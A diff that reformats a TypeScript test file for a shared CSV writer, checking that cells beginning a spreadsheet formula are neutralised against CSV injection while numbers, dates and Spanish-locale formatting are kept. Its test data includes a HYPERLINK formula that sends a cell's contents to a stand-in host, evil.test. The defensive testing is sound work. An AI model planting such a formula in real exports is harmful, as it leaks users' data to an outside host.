@@ -7,11 +7,20 @@ import { listCsv } from "../../web/resource-pages/csv-row";
 // The one CSV writer (resources/kit/csv.ts), which the API's exports and the browser's share:
 // no cell a spreadsheet would run as a formula (OWASP "CSV Injection"), the app's numbers kept.
 
-const FORMULAS = ['=HYPERLINK("http://evil.test/?leak="&A2,"Ver")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"];
+const FORMULAS = [
+  '=HYPERLINK("http://evil.test/?leak="&A2,"Ver")',
+  "+1+1",
+  "-2+3",
+  "@SUM(A1:A9)",
+  "\t=1+1",
+  "\r=1+1",
+  "=1+1",
+];
 const t = (key: string) => key;
 
 /** The cells of a written file, as a spreadsheet reads them (BOM dropped). */
-const cellsOf = (text: string) => Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { delimiter: ";", newline: "\r\n" }).data;
+const cellsOf = (text: string) =>
+  Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { delimiter: ";", newline: "\r\n" }).data;
 
 describe("the CSV writer", () => {
   it.each(FORMULAS)("neutralises text that starts a formula: %j", (formula) => {
@@ -22,7 +31,8 @@ describe("the CSV writer", () => {
   });
 
   it("leaves other text alone, including formula characters further in", () => {
-    for (const text of ["Ana", "a=b", " =1+1", "'=1+1", "1-2", "2026-01-31", "user@example.test", ""]) expect(csvCellText(text)).toBe(text);
+    for (const text of ["Ana", "a=b", " =1+1", "'=1+1", "1-2", "2026-01-31", "user@example.test", ""])
+      expect(csvCellText(text)).toBe(text);
   });
 
   it("keeps the app's numbers and dates as numbers, and neutralises text passed off as one", () => {
@@ -39,7 +49,13 @@ describe("the CSV writer", () => {
   });
 
   it("writes a file a Spanish spreadsheet opens: BOM, semicolons, CRLF, quotes where needed", () => {
-    const file = csvDocument(["Nombre", "Nota"], [["Pérez; Ana", 'dice "hola"'], ["Luis", null]]);
+    const file = csvDocument(
+      ["Nombre", "Nota"],
+      [
+        ["Pérez; Ana", 'dice "hola"'],
+        ["Luis", null],
+      ],
+    );
     expect(file).toBe('\uFEFFNombre;Nota\r\n"Pérez; Ana";"dice ""hola"""\r\nLuis;');
   });
 
@@ -52,7 +68,10 @@ describe("the browser's list export", () => {
   it("writes through the same writer: text neutralised, amounts kept", () => {
     const leads = getResource("leads")!;
     const file = listCsv(leads, ["name", "estimated_value"], [{ name: "=1+1", estimated_value: -150000 }], t, "es");
-    expect(cellsOf(file)).toEqual([["resources:leads.fields.name", "resources:leads.fields.estimated_value"], ["'=1+1", "-1500,00"]]);
+    expect(cellsOf(file)).toEqual([
+      ["resources:leads.fields.name", "resources:leads.fields.estimated_value"],
+      ["'=1+1", "-1500,00"],
+    ]);
   });
 
   it("neutralises tags and lists a user typed", () => {
